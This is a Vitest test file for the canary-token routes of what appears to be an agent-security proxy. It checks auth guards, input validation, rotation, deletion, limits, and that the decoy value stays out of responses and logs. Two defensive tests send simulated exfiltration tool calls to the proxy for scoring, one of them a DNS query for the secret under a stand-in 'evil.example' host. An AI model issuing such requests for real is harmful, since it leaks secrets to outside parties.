import { describe, expect, it } from 'vitest';
import { CANARY_LIMITS } from '../../../core/schemas/canary.ts';
import { proxyApp, send, type Json, type TestApp } from './helpers.ts';

const VALUE = 'decoy-7f3a9e21b8d04c56';
const create = (t: TestApp, body: unknown) => send(t, 'POST', '/api/canaries', { body });
const list = async (t: TestApp) => (await send(t, 'GET', '/api/canaries')).body as { items: Json[]; total: number };

describe('canary routes: guards', () => {
  it('GET /api/canaries without the dashboard token answers 401 DASHBOARD_AUTH_REQUIRED', async () => {
    const t = await proxyApp();
    const { status, body } = await send(t, 'GET', '/api/canaries', { token: null });
    expect(status).toBe(401);
    expect(body.code).toBe('DASHBOARD_AUTH_REQUIRED');
  });

  it.each([
    ['POST', '/api/canaries'],
    ['POST', '/api/canaries/x/rotate'],
    ['DELETE', '/api/canaries/x'],
  ])('%s %s without x-svc-csrf answers 403 CSRF_REQUIRED', async (method, path) => {
    const t = await proxyApp();
    const { status, body } = await send(t, method, path, { token: null, body: { label: 'l', generate: true } });
    expect(status).toBe(403);
    expect(body.code).toBe('CSRF_REQUIRED');
  });
});

describe('canary routes: create and list', () => {
  it('a value canary answers 201 {id, label, value_prefix} with the first four characters and an ellipsis', async () => {
    const t = await proxyApp();
    const { status, body, text } = await create(t, { label: 'aws decoy', value: VALUE });
    expect(status).toBe(201);
    expect(Object.keys(body).sort()).toEqual(['id', 'label', 'value_prefix']);
    expect(body).toMatchObject({ id: expect.any(String), label: 'aws decoy', value_prefix: 'deco\u2026' });
    expect(text).not.toContain(VALUE);
  });

  it('GET /api/canaries lists {items, total} with prefixes only', async () => {
    const t = await proxyApp();
    const a = (await create(t, { label: 'a', value: VALUE })).body;
    const b = (await create(t, { label: 'b', generate: true })).body;
    const listed = await send(t, 'GET', '/api/canaries');
    expect(listed.status).toBe(200);
    const items = (listed.body.items as Json[]);
    expect(listed.body.total).toBe(items.length);
    expect(items).toEqual(expect.arrayContaining([a, b]));
    expect(listed.text).not.toContain(VALUE);
  });

  it('a generated value is 48 hex characters from the secure random source', async () => {
    const drawn: Uint8Array[] = [];
    const t = await proxyApp({ deps: { random: { bytes: (n) => { const b = crypto.getRandomValues(new Uint8Array(n)); drawn.push(b); return b; } } } });
    drawn.length = 0;
    const { status, body } = await create(t, { label: 'generated', generate: true });
    expect(status).toBe(201);
    const value = drawn.filter((b) => b.length === 24).map((b) => Array.from(b, (x) => x.toString(16).padStart(2, '0')).join(''))[0]!;
    expect(value).toMatch(/^[0-9a-f]{48}$/);
    expect(body.value_prefix).toBe(`${value.slice(0, 4)}\u2026`);
    const scored = await send(t, 'POST', '/api/proxy/test', { body: { tool_call: { type: 'HttpRequest', method: 'GET', url: `https://a.example/?k=${value}` } } });
    expect(String(scored.body.action)).toMatch(/^deny\(/);
  });

  it('the label is stored trimmed', async () => {
    const t = await proxyApp();
    expect((await create(t, { label: '  spaced  ', value: VALUE })).body.label).toBe('spaced');
  });

  it('null value or generate counts as absent; generate: false with a value is a value canary', async () => {
    const t = await proxyApp();
    expect((await create(t, { label: 'n', value: null, generate: true })).status).toBe(201);
    expect((await create(t, { label: 'f', value: VALUE, generate: false })).status).toBe(201);
  });
});

describe('canary routes: 400 INVALID_LABEL (the label is checked before the value)', () => {
  it.each<[string, unknown]>([
    ['a missing label', { value: VALUE }],
    ['an empty label', { label: '', value: VALUE }],
    ['a whitespace-only label', { label: ' \t\n ', value: VALUE }],
    ['a label that is not a string', { label: 42, value: VALUE }],
    [`a label over ${CANARY_LIMITS.labelMaxLength} characters`, { label: 'x'.repeat(CANARY_LIMITS.labelMaxLength + 1), value: VALUE }],
    ['an empty label with an invalid value too', { label: '', value: '' }],
    ['a body that is an array', [{ label: 'x', value: VALUE }]],
    ['an empty body', undefined],
  ])('%s', async (_name, payload) => {
    const t = await proxyApp();
    const { status, body } = await create(t, payload);
    expect(status).toBe(400);
    expect(body.code).toBe('INVALID_LABEL');
    expect((await list(t)).total).toBe(0);
  });

  it(`a label of exactly ${CANARY_LIMITS.labelMaxLength} characters is accepted`, async () => {
    const t = await proxyApp();
    expect((await create(t, { label: 'x'.repeat(CANARY_LIMITS.labelMaxLength), value: VALUE })).status).toBe(201);
  });
});

const INVALID_VALUES: Array<[string, Json]> = [
  ['neither value nor generate', {}],
  ['both value and generate: true', { value: VALUE, generate: true }],
  ['an empty value', { value: '' }],
  ['an empty value with generate: true', { value: '', generate: true }],
  ['a whitespace-only value', { value: '        ' }],
  ['generate: false without a value', { generate: false }],
  ['a value that is not a string', { value: 123456789 }],
  ['generate that is not a boolean', { generate: 'true' }],
  [`a value over ${CANARY_LIMITS.valueMaxLength} characters`, { value: 'v'.repeat(CANARY_LIMITS.valueMaxLength + 1) }],
];

describe('canary routes: 400 INVALID_VALUE unless exactly one of value (non-empty) or generate: true', () => {
  it.each(INVALID_VALUES)('create with %s', async (_name, fields) => {
    const t = await proxyApp();
    const { status, body } = await create(t, { label: 'decoy', ...fields });
    expect(status).toBe(400);
    expect(body.code).toBe('INVALID_VALUE');
    expect((await list(t)).total).toBe(0);
  });

  it.each(INVALID_VALUES)('rotate with %s', async (_name, fields) => {
    const t = await proxyApp();
    const c = (await create(t, { label: 'decoy', value: VALUE })).body;
    const { status, body } = await send(t, 'POST', `/api/canaries/${String(c.id)}/rotate`, { body: fields });
    expect(status).toBe(400);
    expect(body.code).toBe('INVALID_VALUE');
    expect((await list(t)).items).toEqual([c]);
  });

  it('a short value, even one inside its label, is accepted: the spec refuses only a missing, empty or doubled value', async () => {
    const t = await proxyApp();
    for (const [label, value] of [['decoy', 'x'], ['short', 'decoy'], ['canary', 'canary'], ['emoji', '\u{1F600}']] as const) {
      const { status, body } = await create(t, { label, value });
      expect(status, value).toBe(201);
      expect(body.value_prefix, value).toBe(`${Array.from(value).slice(0, 4).join('')}\u2026`);
    }
  });

  it('rotate with an empty body answers INVALID_VALUE', async () => {
    const t = await proxyApp();
    const c = (await create(t, { label: 'decoy', value: VALUE })).body;
    expect((await send(t, 'POST', `/api/canaries/${String(c.id)}/rotate`)).body.code).toBe('INVALID_VALUE');
  });
});

describe('canary routes: rotate and delete', () => {
  it('rotate keeps id and label and answers the new prefix', async () => {
    const t = await proxyApp();
    const c = (await create(t, { label: 'decoy', value: VALUE })).body;
    const rotated = await send(t, 'POST', `/api/canaries/${String(c.id)}/rotate`, { body: { value: 'zeta-0123456789abcdef' } });
    expect(rotated.status).toBe(200);
    expect(rotated.body).toEqual({ id: c.id, label: 'decoy', value_prefix: 'zeta\u2026' });
    const generated = await send(t, 'POST', `/api/canaries/${String(c.id)}/rotate`, { body: { generate: true } });
    expect(generated.body).toMatchObject({ id: c.id, label: 'decoy', value_prefix: expect.stringMatching(/^[0-9a-f]{4}\u2026$/) });
    expect((await list(t)).items).toEqual([generated.body]);
  });

  it('delete answers {status: removed, id} and the canary is gone', async () => {
    const t = await proxyApp();
    const c = (await create(t, { label: 'decoy', value: VALUE })).body;
    const removed = await send(t, 'DELETE', `/api/canaries/${String(c.id)}`);
    expect(removed.status).toBe(200);
    expect(removed.body).toEqual({ status: 'removed', id: c.id });
    expect(await list(t)).toEqual({ items: [], total: 0 });
  });

  it.each([
    ['rotate', 'POST', '/rotate', { generate: true }],
    ['rotate (invalid body too)', 'POST', '/rotate', {}],
    ['delete', 'DELETE', '', undefined],
  ])('%s of an unknown id answers 404 NOT_FOUND', async (_name, method, suffix, payload) => {
    const t = await proxyApp();
    for (const id of ['cnry_0000000000000000', '%E0%A4%A', 'x'.repeat(300)]) {
      const { status, body } = await send(t, method, `/api/canaries/${id}${suffix}`, { body: payload });
      expect(status).toBe(404);
      expect(body.code).toBe('NOT_FOUND');
    }
  });

  it('a second delete of the same id answers 404 NOT_FOUND', async () => {
    const t = await proxyApp();
    const c = (await create(t, { label: 'decoy', generate: true })).body;
    expect((await send(t, 'DELETE', `/api/canaries/${String(c.id)}`)).status).toBe(200);
    expect((await send(t, 'DELETE', `/api/canaries/${String(c.id)}`)).body.code).toBe('NOT_FOUND');
  });
});

describe('canary routes: limits and secrecy', () => {
  it(`registering past ${CANARY_LIMITS.maxCanaries} canaries answers 409 CANARY_LIMIT_REACHED`, async () => {
    const t = await proxyApp();
    const { canaries } = t.app.services.engine;
    while (canaries.size < CANARY_LIMITS.maxCanaries - 1) canaries.add(`seed ${canaries.size}`, `seed-value-${canaries.size}-xyz`);
    expect((await create(t, { label: 'last', generate: true })).status).toBe(201);
    const over = await create(t, { label: 'one too many', generate: true });
    expect(over.status).toBe(409);
    expect(over.body.code).toBe('CANARY_LIMIT_REACHED');
  });

  it('the value never appears in a canary route\'s response or error, a detection message or a log line', async () => {
    const lines: string[] = [];
    const record = (...args: unknown[]) => void lines.push(JSON.stringify(args));
    const t = await proxyApp({ deps: { log: { info: record, warn: record, error: record } } });
    const texts: string[] = [];
    const c = await create(t, { label: 'secret decoy', value: VALUE });
    texts.push(c.text, (await send(t, 'GET', '/api/canaries')).text);
    texts.push((await create(t, { label: 'dup', value: VALUE, generate: true })).text);
    // The scored call carries the value itself; what the canary filter adds names the label and id only.
    const scored = (await send(t, 'POST', '/api/proxy/test', { body: { tool_call: { type: 'DnsQuery', name: `${VALUE}.evil.example` } } })).body;
    const canaryMessage = (scored.filter_results as Json[]).find((r) => r.filter_name === 'Canary tokens')!.message;
    texts.push(String(scored.action), String(scored.decision_reason), String(canaryMessage));
    texts.push((await send(t, 'POST', `/api/canaries/${String(c.body.id)}/rotate`, { body: { value: `${VALUE}-2` } })).text);
    texts.push((await send(t, 'DELETE', `/api/canaries/${String(c.body.id)}`)).text);
    expect(lines.length).toBeGreaterThan(0);
    for (const text of [...texts, ...lines]) expect(text.toLowerCase()).not.toContain(VALUE.slice(4).toLowerCase());
  });
});
